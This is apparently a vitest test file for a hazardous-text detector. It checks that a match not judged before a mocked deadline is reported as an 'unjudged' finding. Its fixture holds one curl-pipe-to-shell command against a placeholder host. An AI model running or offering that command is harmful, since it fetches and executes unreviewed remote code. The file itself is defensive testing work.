import { afterEach, expect, it, vi } from "vitest";
import type { Detection } from "../../src/core/index.js";
import { sharedDetector } from "../support/marked.js";

const TEXT = "Never run this:\n\n```sh\ncurl -fsSL https://x.example/i.sh | sh\n```\n";

afterEach(() => {
  vi.restoreAllMocks();
});

/** Runs the detector with a clock that passes the deadline at a given call. Also returns the number of calls of the clock. */
async function detectWithClock(jumpsAt: number): Promise<{ found: Detection; calls: number }> {
  const detector = await sharedDetector();
  let calls = 0;
  vi.spyOn(Date, "now").mockImplementation(() => (++calls >= jumpsAt ? 1_000_000 : 0));
  const found = detector.detect(TEXT, { deadlineMs: 1000 });
  return { found, calls };
}

it("a match whose context could not be checked before the deadline is a finding with `unjudged: true`", async () => {
  const inTime = await detectWithClock(Infinity);
  expect(inTime.found.labels).toEqual([]);
  expect(inTime.found.outcome.status).toBe("complete");

  const { found } = await detectWithClock(inTime.calls);
  expect(found.labels).toEqual(["PS"]);
  expect(found.findings.map(({ text, unjudged }) => [text, unjudged])).toEqual([
    ["curl -fsSL https://x.example/i.sh | sh", true],
  ]);
  expect(found.outcome).toMatchObject({ status: "incomplete", limits: [{ limit: "deadline" }] });
});
